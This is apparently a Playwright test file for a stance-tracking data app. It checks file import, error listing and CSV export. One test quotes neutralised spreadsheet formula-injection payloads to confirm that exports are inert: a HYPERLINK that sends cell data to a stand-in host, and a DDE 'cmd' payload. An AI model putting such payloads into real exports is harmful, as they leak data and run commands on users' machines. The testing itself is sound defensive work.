import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { parseCsv } from '../../src/lib/csv-read';

// Issue 15 in the browser: real-shaped files open whole and undistorted, and CSV exports are inert in
// a spreadsheet. Each test names the numbered problem of the issue it covers.

const bundled = JSON.parse(readFileSync('public/data/stances.json', 'utf8')) as { title: string };
const fileInput = (page: Page) => page.getByLabel('Open dataset file (JSON or CSV)');
const mappingDialog = (page: Page, name: string) =>
  page.getByRole('dialog', { name: `Map the columns of ${name}` });

/** Text cells a spreadsheet would run as formulas: = + - @ tab or CR first, and not a plain number. */
function liveFormulaCells(csv: string): string[] {
  return parseCsv(csv.replace(/^\uFEFF/, ''))
    .rows.flat()
    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(c));
}

async function download(page: Page, item: string): Promise<string> {
  await page.getByRole('button', { name: 'Export' }).click();
  const downloaded = page.waitForEvent('download');
  await page.getByRole('menu', { name: 'Export' }).getByRole('menuitem', { name: item }).click();
  return readFileSync(await (await downloaded).path(), 'utf8');
}

test('2. formula cells: exported CSVs are inert, and reopening the export gives the same data', async ({
  page,
  consoleErrors,
}) => {
  const name = 'formula-cells.csv';
  await page.goto('./');
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  await mappingDialog(page, name).getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);

  const observations = await download(page, 'Download CSV');
  expect(liveFormulaCells(observations)).toEqual([]);
  const rows = parseCsv(observations.replace(/^\uFEFF/, '')).rows;
  const speaker = rows[0]!.indexOf('speaker');
  const score = rows[0]!.indexOf('score');
  expect(rows.map((r) => r[speaker])).toContain(
    '\'=HYPERLINK("http://evil.invalid/?leak="&A1;"Click for the source")',
  );
  // Scores stay number cells: −2 is written -2, not '-2.
  expect(rows.slice(1).map((r) => r[score])).toEqual(['-2', '-1', '0', '2', '2.5', '-3']);

  const series = await download(page, 'Download series CSV');
  expect(liveFormulaCells(series)).toEqual([]);
  expect(series).toContain("'=cmd|' /C calc'!A0");

  // The downloaded file opened again: the same observations, so exporting once more gives the same file.
  await fileInput(page).setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(observations) });
  await mappingDialog(page, name).getByRole('button', { name: 'Open' }).click();
  await expect(page.getByText(/^Opened formula-cells\.csv: 6 observations/)).toBeVisible();
  const again = await download(page, 'Download CSV');
  const ids = (csv: string) => csv.replace(/\brow-\d+\b/g, 'row-N').replace(/row \d+:/g, 'row N:');
  expect(ids(again)).toBe(ids(observations));
  expect(consoleErrors).toEqual([]);
});

test('4. a hostile JSON with three fatal problems lists all of them at once and opens nothing', async ({
  page,
  consoleErrors,
}) => {
  const name = 'hostile-three-fatal.json';
  await page.goto('./');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(bundled.title);
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  const dialog = page.getByRole('dialog', { name: `${name} could not be opened` });
  await expect(dialog.getByRole('alert')).toHaveText(
    /^The file cannot be opened: it has 3 problems outside its observations .*All are listed, so they can be fixed in one go\.$/,
  );
  await expect(dialog.getByRole('heading', { name: '4 problems' })).toBeVisible();
  await expect(dialog.getByRole('list', { name: 'Problems' }).getByRole('listitem')).toHaveText([
    'actor russia: id: duplicate id "russia" (an earlier actor has it)',
    'source src-001: url: must start with http:// or https://',
    'event evt-hostile: sourceId: unknown source "src-missing" (not in the sources list)',
    'observation obs-003: date: is not a real calendar date (expected YYYY-MM-DD, YYYY-MM or YYYY)',
  ]);
  await expect(dialog.getByRole('button', { name: /^Open the/ })).toHaveCount(0);
  await dialog.getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(bundled.title);
  expect(consoleErrors).toEqual([]);
});

test('3. Excel\'s "Unicode text" (UTF-16 with a byte-order mark) opens with its letters intact', async ({
  page,
  consoleErrors,
}) => {
  const name = 'excel-unicode-text.txt';
  await page.goto('./');
  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
  const dialog = mappingDialog(page, name);
  await expect(dialog).toContainText(
    '5 rows and 7 columns, separated by tabs. Text encoding: UTF-16 (little-endian), from its byte-order mark.',
  );
  await expect(dialog.getByRole('combobox', { name: 'Speaker' })).toHaveValue('5');
  await dialog.getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
  await expect(page.getByText(/^Opened excel-unicode-text\.txt: 5 observations, 5 actors\./)).toBeVisible();
  const legend = page
    .getByRole('figure', { name: /^Stance over time/ })
    .getByRole('list', { name: 'Legend' });
  await expect(legend.getByRole('listitem')).toHaveCount(5);
  expect((await legend.getByRole('listitem').allTextContents()).sort()).toEqual(
    ['Trump', 'Zelensky', 'Україна', 'Росія', 'Türkiye'].sort(),
  );
  await expect(page.getByRole('table')).toContainText('Володимир Зеленський');
  expect(consoleErrors).toEqual([]);
});
